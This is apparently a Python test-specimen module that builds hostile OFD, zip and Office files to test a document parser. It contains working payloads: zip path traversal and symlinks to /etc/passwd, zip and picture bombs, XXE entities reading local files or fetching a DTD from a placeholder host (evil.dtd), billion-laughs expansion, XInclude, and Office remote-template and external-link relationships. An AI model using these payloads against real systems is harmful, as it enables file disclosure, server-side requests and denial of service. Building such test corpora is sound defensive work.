"""Containers: zip files that unpack to too much or to strange places, OFD and Office files that lead elsewhere."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

from tests.specimens import ofd, office
from tests.specimens.attacks.pictures import LARGE_PNG
from tests.specimens.ofd import HEAD, SPACE, Ofd, text

LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {one} "{f"&{other};" * 10}">' for one, other in zip("bcdefghi", "abcdefgh", strict=True))
    + "]>"
)
OUTSIDE = '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
FETCHED = '<!DOCTYPE a SYSTEM "http://192.0.2.1/evil.dtd">'
PARAMETER = '<!DOCTYPE a [<!ENTITY % a SYSTEM "http://192.0.2.1/x"> %a;]>'
GOOD = ofd.form()


def _with(add: Callable[[zipfile.ZipFile], object], base: bytes | None = None) -> bytes:
    file = io.BytesIO(base if base is not None else GOOD.written())
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
        add(archive)
    return file.getvalue()


def _named(name: str, data: bytes = b"x") -> bytes:
    return _with(lambda archive: archive.writestr(name, data))


def _many(name: str, number: int, data: bytes = b"") -> bytes:
    def add(archive: zipfile.ZipFile) -> None:
        for one in range(number):
            archive.writestr(name.format(one), data)

    return _with(add)


def _raw(name: bytes, replaced: bytes) -> bytes:
    """A name that Python would not write; both have one length."""
    return _named(name.decode()).replace(name, replaced)


def _link() -> bytes:
    entry = zipfile.ZipInfo("Doc_0/link")
    entry.create_system, entry.external_attr = 3, 0o120777 << 16
    return _with(lambda archive: archive.writestr(entry, "/etc/passwd"))


def _overlapping(entries: int = 60) -> bytes:
    """One packed run that every entry of the directory points at."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("OFD.xml", bytes(20 << 20))
    data = file.getvalue()
    start = data.index(b"PK\x01\x02")
    head, end = data[start : data.index(b"PK\x05\x06")], data.index(b"PK\x05\x06")
    rows = b"".join(head[:46] + b"%07d" % number for number in range(entries))
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, entries, entries, len(rows), start, 0)
    return data[:start] + rows + tail + data[end + 22 :]


LARGE = 5 << 20
"""Bytes of a directory that holds more than any container of paper."""


def _hidden_directory(*, wide: bool) -> bytes:
    """A large directory whose size the last end record does not tell: it stands in a second one, or in one of 64 bits."""
    start = b"PK\x03\x04" + bytes(26)
    if not wide:
        # The mark once more where the numbers of disks stand, which Python does not look at.
        twice = struct.pack("<4s4s2H2IH", b"PK\x05\x06", b"PK\x05\x06", 9, 9, LARGE, len(start), 0)
        return start + bytes(LARGE) + twice
    record = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 9, 9, LARGE, len(start))
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, len(start) + LARGE, 1)
    return start + bytes(LARGE) + record + locator + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 9, 9, 414, 30, 0)


def zips() -> dict[str, bytes]:
    good = GOOD.written()
    locked = bytearray(good)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = good.find(mark)
        locked[at + place] |= 1
    lzma = io.BytesIO()
    with zipfile.ZipFile(lzma, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("OFD.xml", "<OFD/>")
    broken = bytearray(good)
    broken[good.index(b"PK\x03\x04") + 60] ^= 0xFF
    end = good.rindex(b"PK\x05\x06")
    return {
        "zip-up-and-out.ofd": _named("../../../../tmp/escaped"),
        "zip-from-the-root.ofd": _named("/etc/cron.d/escaped"),
        "zip-backslashes.ofd": _raw(b"Doc_0/aa-bb-cc", b"Doc_0\\..\\..\\cc"),
        "zip-nul-in-a-name.ofd": _raw(b"Doc_0/zz.xml", b"Doc_0/z\x00.xml"),
        "zip-drive-letter.ofd": _named("C:/Windows/escaped"),
        "zip-link.ofd": _link(),
        "zip-same-name-twice.ofd": _named("Doc_0/document.xml"),
        "zip-locked.ofd": bytes(locked),
        "zip-bomb-of-one.ofd": _named("Doc_0/zeros", bytes(60 << 20)),
        "zip-bomb-of-many.ofd": _many("z{}", 310, bytes(1 << 20)),
        "zip-overlapping.ofd": _overlapping(),
        "zip-6000-entries.ofd": _many("n{}", 6000),
        "zip-60000-entries.ofd": _many("Doc_0/Pages/{:060}", 60_000),
        "zip-in-zip.zip": office.package({f"{n}.zip": good for n in range(20)}),
        "zip-of-lzma.ofd": lzma.getvalue(),
        "zip-checksum-wrong.ofd": bytes(broken),
        "zip-cut.ofd": good[: len(good) * 2 // 3],
        "zip-directory-lost.ofd": good[: good.index(b"PK\x01\x02")] + good[end:],
        "zip-directory-lies.ofd": good[: end + 10] + b"\xff\xff" + good[end + 12 :],
        "zip-size-lies.ofd": good.replace(struct.pack("<I", len(GOOD._own()["OFD.xml"])), struct.pack("<I", 7)),
        "zip-directory-told-twice.ofd": _hidden_directory(wide=False),
        "zip-directory-of-64-bits.ofd": _hidden_directory(wide=True),
        "zip-empty.zip": b"PK\x05\x06" + bytes(18),
        "zip-only-a-head.zip": b"PK\x03\x04" + bytes(26),
    }


def _part(name: str, content: str | bytes, **more: object) -> bytes:
    return Ofd(pages=[text("食品经营许可申请书", 20, 20)], parts={name: content}, **more).written()  # type: ignore[arg-type] # as the builder takes them


def ofd_markup() -> dict[str, bytes]:
    root = "<ofd:OFD {space}><ofd:DocBody><ofd:DocRoot>{place}</ofd:DocRoot></ofd:DocBody></ofd:OFD>"

    def at(place: str, head: str = HEAD) -> str:
        return head + root.format(space=SPACE, place=place)

    typed = HEAD + "{kind}" + root.format(space=SPACE, place="&a;")
    wide = ('<?xml version="1.0" encoding="UTF-16"?>' + OUTSIDE + root.format(space=SPACE, place="&a;")).encode(
        "utf-16"
    )
    return {
        "ofd-entity-file.ofd": _part("OFD.xml", typed.format(kind=OUTSIDE)),
        "ofd-entity-net.ofd": _part("OFD.xml", typed.format(kind=FETCHED)),
        "ofd-entity-parameter.ofd": _part("OFD.xml", typed.format(kind=PARAMETER)),
        "ofd-laughs.ofd": _part("Doc_0/Document.xml", HEAD + LAUGHS + "<a>&i;</a>"),
        "ofd-entity-wide.ofd": _part("OFD.xml", wide),
        "ofd-document-type-alone.ofd": _part(
            "OFD.xml", HEAD + "<!DOCTYPE OFD>" + root.format(space=SPACE, place="Doc_0/Document.xml")
        ),
        "ofd-deep.ofd": _part("Doc_0/Document.xml", HEAD + "<a>" * 60_000 + "</a>" * 60_000),
        "ofd-wide-attribute.ofd": _part("Doc_0/Document.xml", f'{HEAD}<a b="{"c" * 12_000_000}"/>'),
        "ofd-root-outside.ofd": _part("OFD.xml", at("../../etc/passwd")),
        "ofd-root-absolute.ofd": _part("OFD.xml", at("/etc/passwd")),
        "ofd-root-address.ofd": _part("OFD.xml", at("http://192.0.2.1/Document.xml")),
        "ofd-root-is-itself.ofd": _part("OFD.xml", at("OFD.xml")),
        "ofd-root-empty.ofd": _part("OFD.xml", at("")),
        "ofd-no-markup.ofd": _part("OFD.xml", bytes(range(256))),
        "ofd-empty-markup.ofd": _part("OFD.xml", b""),
        "ofd-million-elements.ofd": _part(
            "Doc_0/Document.xml",
            HEAD + "<a>" + "".join(f'<b c="{number}" d=""/>' for number in range(1_050_000)) + "</a>",
        ),
        "ofd-21-documents.ofd": _part(
            "OFD.xml",
            f"{HEAD}<ofd:OFD {SPACE}>"
            + "<ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody>" * 21
            + "</ofd:OFD>",
        ),
        "ofd-include.ofd": _part(
            "Doc_0/Document.xml",
            HEAD + '<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="file:///etc/passwd"/></a>',
        ),
    }


def ofd_pages() -> dict[str, bytes]:
    line = text("申请人名称：青禾县示例餐饮有限公司", 20, 40)
    glyphs = text("字" * 90_000, 10, 10, deltas="g 999999999 1")
    path = '<ofd:PathObject ID="1" Boundary="0 0 200 200"><ofd:AbbreviatedData>{data}</ofd:AbbreviatedData></ofd:PathObject>'
    unit = f'{HEAD}<ofd:Res {SPACE}><ofd:CompositeGraphicUnits><ofd:CompositeGraphicUnit ID="6"><ofd:Content>{{inner}}</ofd:Content></ofd:CompositeGraphicUnit></ofd:CompositeGraphicUnits></ofd:Res>'
    use = '<ofd:CompositeObject ID="3" Boundary="0 0 10 10" ResourceID="6"/>'
    itself = f'{HEAD}<ofd:Page {SPACE}><ofd:Template TemplateID="90"/></ofd:Page>'
    shown = ofd.image(4, 10, 10, 100, 100)
    return {
        "ofd-no-pages.ofd": Ofd().written(),
        "ofd-2500-pages.ofd": Ofd(pages=[""] * 2500).written(),
        "ofd-box-billion.ofd": Ofd(pages=[line], box="0 0 1000000000 1000000000").written(),
        "ofd-box-nan.ofd": Ofd(pages=[line], box="nan nan inf -inf").written(),
        "ofd-box-negative.ofd": Ofd(pages=[line], box="0 0 -210 -297").written(),
        "ofd-box-tiny.ofd": Ofd(pages=[line], box="0 0 0.001 0.001").written(),
        "ofd-page-missing.ofd": Ofd(
            pages=[line], parts={"Doc_0/Document.xml": Ofd(pages=[line] * 3)._document()}
        ).written(),
        "ofd-page-broken.ofd": _part("Doc_0/Pages/Page_0/Content.xml", "<page"),
        "ofd-million-glyphs.ofd": Ofd(pages=[glyphs * 4]).written(),
        "ofd-steps-lie.ofd": Ofd(
            pages=[text("申请人名称", 20, 20, deltas="g -5 1 g x y g 99999999999999 1e308 nan")]
        ).written(),
        "ofd-size-billion.ofd": Ofd(
            pages=[text("申请人", 20, 20, size=1e6), text("申请人", 20, 20, size=-7)][:1]
        ).written(),
        "ofd-matrix-lies.ofd": Ofd(
            pages=[text("申请人", 20, 20, more='CTM="1e300 0 0 1e300 nan 0"'), line][:2]
        ).written(),
        "ofd-blocks-200-deep.ofd": Ofd(pages=["<ofd:PageBlock>" * 200 + line + "</ofd:PageBlock>" * 200]).written(),
        "ofd-100000-objects.ofd": Ofd(pages=['<ofd:PathObject ID="1"/>' * 100_000]).written(),
        "ofd-path-million-steps.ofd": Ofd(
            pages=[path.format(data="M 0 0 " + "L 9 9 B 1 1 2 2 3 3 " * 200_000)]
        ).written(),
        "ofd-path-60000-steps.ofd": Ofd(
            pages=[path.format(data="M 0 0 " + "".join(f"L {step % 197} {step % 283} " for step in range(60_000)))]
        ).written(),
        "ofd-path-garbage.ofd": Ofd(pages=[path.format(data="M 0 L Z Q 1 B nan inf X C C C") + line]).written(),
        "ofd-unit-in-itself.ofd": Ofd(pages=[use], parts={"Doc_0/DocumentRes.xml": unit.format(inner=use)}).written(),
        "ofd-unit-20-to-the-n.ofd": Ofd(
            pages=[use * 20], parts={"Doc_0/DocumentRes.xml": unit.format(inner=use * 20)}
        ).written(),
        "ofd-unit-missing.ofd": Ofd(pages=[line + use]).written(),
        "ofd-glyphs-without-characters.ofd": Ofd(
            pages=[
                '<ofd:TextObject ID="1" Boundary="0 0 90 9" Font="1" Size="4"><ofd:CGTransform CodePosition="0"><ofd:Glyphs>5</ofd:Glyphs></ofd:CGTransform></ofd:TextObject>'
            ]
        ).written(),
        "ofd-template-in-itself.ofd": Ofd(
            pages=[line], template=line, parts={"Doc_0/Tpls/Tpl_0/Content.xml": itself}
        ).written(),
        "ofd-picture-missing.ofd": Ofd(pages=[line + ofd.image(77, 1, 1, 9, 9)]).written(),
        "ofd-picture-garbage.ofd": Ofd(pages=[shown], pictures={4: b"no picture"}).written(),
        "ofd-picture-bomb.ofd": Ofd(pages=[shown], pictures={4: LARGE_PNG}).written(),
        "ofd-picture-elsewhere.ofd": _part(
            "Doc_0/DocumentRes.xml",
            f'{HEAD}<ofd:Res {SPACE} BaseLoc="/../.."><ofd:MultiMedias><ofd:MultiMedia ID="4" Type="Image"><ofd:MediaFile>'
            "../../../etc/passwd</ofd:MediaFile></ofd:MultiMedia></ofd:MultiMedias></ofd:Res>",
        ),
        "ofd-seal-garbage.ofd": Ofd(
            pages=[line], stamp=(b"\x89PNG\r\n\x1a\n" + bytes(90) + b"IEND\xaeB`\x82", "10 10 40 40")
        ).written(),
    }


def words() -> dict[str, bytes]:
    body = f'{office.HEAD}{{head}}<w:document xmlns:w="{office.WORD}"><w:body><w:p><w:r><w:t>{{text}}</w:t></w:r></w:p></w:body></w:document>'
    types = office.docx().replace(b"x", b"x")
    macro = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}
    tables = "<w:tbl><w:tr><w:tc>" * 400 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 400
    link = {
        "xl/externalLinks/_rels/externalLink1.xml.rels": office.related("http://192.0.2.1/a.xlsx", "externalLinkPath")[
            "word/_rels/document.xml.rels"
        ]
    }
    return {
        "word-macro.docx": office.docx(parts=macro),
        "word-picture-elsewhere.docx": office.docx(parts=office.related("http://192.0.2.1/p.png", "image")),
        "word-template-elsewhere.docx": office.docx(
            parts=office.related("http://192.0.2.1/t.dotm", "attachedTemplate")
        ),
        "word-object-elsewhere.docx": office.docx(parts=office.related("file:///etc/passwd", "oleObject")),
        "word-chunk-elsewhere.docx": office.docx(parts=office.related("\\\\192.0.2.1\\share\\a.html", "aFChunk")),
        "word-chunk-within.docx": office.docx(
            parts={
                "word/_rels/document.xml.rels": f'{HEAD}<Relationships xmlns="{office.RELATIONS}"><Relationship Id="r9" '
                f'Type="{office.OFFICE}/aFChunk" Target="a.html"/></Relationships>',
                "word/a.html": "<p>x</p>",
            }
        ),
        "word-entity.docx": office.docx(parts={"word/document.xml": body.format(head=OUTSIDE, text="&a;")}),
        "word-laughs.docx": office.docx(parts={"word/document.xml": body.format(head=LAUGHS, text="&i;")}),
        "word-entity-wide.docx": office.docx(
            parts={
                "word/document.xml": body.replace("UTF-8", "UTF-16").format(head=OUTSIDE, text="&a;").encode("utf-16")
            }
        ),
        "word-bomb.docx": office.docx(parts={"word/media/a.bin": bytes(60 << 20)}),
        "word-no-content.docx": office.docx(parts={"word/document.xml": b""}),
        "word-garbage.docx": office.docx(parts={"word/document.xml": bytes(range(256)) * 50}),
        "word-tables-400-deep.docx": office.docx(
            parts={"word/document.xml": body.format(head="", text="").replace("<w:p>", tables + "<w:p>")}
        ),
        "word-cut.docx": types[: len(types) // 2],
        "excel-macro.xlsx": office.xlsx(parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "excel-old-macro.xlsx": office.xlsx(parts={"xl/macrosheets/sheet1.xml": "<a/>"}),
        "excel-link.xlsx": office.xlsx(parts=link),
        "excel-entity.xlsx": office.xlsx(parts={"xl/worksheets/sheet1.xml": HEAD + OUTSIDE + "<a>&a;</a>"}),
        "excel-no-sheet.xlsx": office.xlsx(parts={"xl/worksheets/sheet1.xml": b"<"}),
    }
